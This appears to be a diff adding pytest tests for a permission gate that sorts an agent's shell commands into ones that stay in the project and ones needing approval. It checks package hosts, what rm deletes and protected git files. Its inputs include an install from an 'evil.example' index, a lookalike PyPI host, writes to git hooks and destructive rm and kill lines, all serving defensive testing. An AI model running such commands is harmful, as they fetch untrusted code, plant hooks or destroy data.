@@ -1,0 +1,118 @@
+"""What is known to need more than its project asks, and what does not goes on."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from desktop.gate.beyond import beyond, deleted, is_near, is_protected
+from desktop.gate.commands import Commands
+from desktop.gate.request import Request
+from desktop.gate.shell.classify import Classifier
+from desktop.gate.shell.tables import Tables
+from desktop.paths import resources
+
+ROOT = Path("/home/me/project")
+COMMANDS = Commands(Classifier(Tables(resources() / "commands"), remember=False))
+
+
+def request_for(line: str) -> Request:
+    verdict = COMMANDS.verdict(line, "bash", str(ROOT), str(ROOT))
+    return COMMANDS.request(verdict, line, ROOT, "Bash", "1", project=ROOT)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "npm ci",
+        "npm test",
+        "pip install requests",
+        "cargo fetch",
+        "go mod download",
+        "uv sync && uv run pytest",
+        "poetry install",
+        "git add . && git commit -m x",
+        "git checkout -b topic",
+        "docker ps",
+        "make",
+        "curl -o out.json http://localhost:3000/x",
+        "echo x > .gitignore",
+    ],
+)
+def test_a_day_of_work_stays_in_the_project(line: str) -> None:
+    """Building, testing, committing and installing from a package index need nothing else."""
+    assert beyond(request_for(line)) == ""
+
+
+@pytest.mark.parametrize(
+    ("line", "reason"),
+    [
+        ("docker compose up -d", "what docker does lies beyond any folder"),
+        ("sudo -u x true; apt install jq", "what apt does lies beyond any folder"),
+        ("npm test; pkill node", "what pkill does lies beyond any folder"),
+        ("git pull", "git talks to another computer"),
+        ("gh pr create --title x", "gh talks to another computer"),
+        ("pip install --index-url http://evil.example/simple x", "evil.example is no package index"),
+        ("wget -O x https://github.com/a", "github.com is no package index"),
+        ("git config user.name x", "git config changes what git obeys"),
+        ("cp x .git/hooks/pre-commit", "it changes what git obeys"),
+        ("echo x >> sub/.git/config", "it changes what git obeys"),
+    ],
+)
+def test_what_would_fail_in_the_project_asks(line: str, reason: str) -> None:
+    """Services, other hosts and git's own orders are told before the command fails."""
+    assert beyond(request_for(line)) == reason
+
+
+@pytest.mark.parametrize(
+    ("host", "near"),
+    [
+        ("localhost", True),
+        ("127.0.0.1", True),
+        ("[::1]", True),
+        ("pypi.org", True),
+        ("cdn.pypi.org.evil.example", False),
+        ("static.crates.io", True),
+        ("notcrates.io", False),
+        ("10.0.0.1", False),
+        ("", False),
+    ],
+)
+def test_near_are_this_computer_and_package_indexes(host: str, near: bool) -> None:
+    """Whole names, and what lies below those with a dot in front."""
+    assert is_near(host) is near
+
+
+@pytest.mark.parametrize(
+    ("line", "paths"),
+    [
+        ("rm a b/c", ("/home/me/project/a", "/home/me/project/b/c")),
+        ("rm -rf node_modules && npm ci", ("/home/me/project/node_modules",)),
+        ("rm -rf *.log", ("/home/me/project/*.log",)),
+        ("rm -rf $X", None),
+        ("rm -rf ../x", None),
+        ("rm -rf .", None),
+        ("git branch -D x", None),
+        ("kill 1", None),
+    ],
+)
+def test_what_a_line_deletes_is_told_or_not_at_all(line: str, paths: tuple[str, ...] | None) -> None:
+    """Paths in the project; None where one lies elsewhere, is not told, or is no file."""
+    assert deleted(request_for(line)) == paths
+
+
+@pytest.mark.parametrize(
+    ("path", "protected"),
+    [
+        (".git/config", True),
+        (".git/hooks/pre-push", True),
+        ("a/.git", True),
+        (".git/index", False),
+        (".github/x", False),
+        ("src/a.py", False),
+    ],
+)
+def test_git_obeys_its_settings_and_hooks(path: str, protected: bool) -> None:
+    """What a commit writes is not among them."""
+    assert is_protected(path) is protected
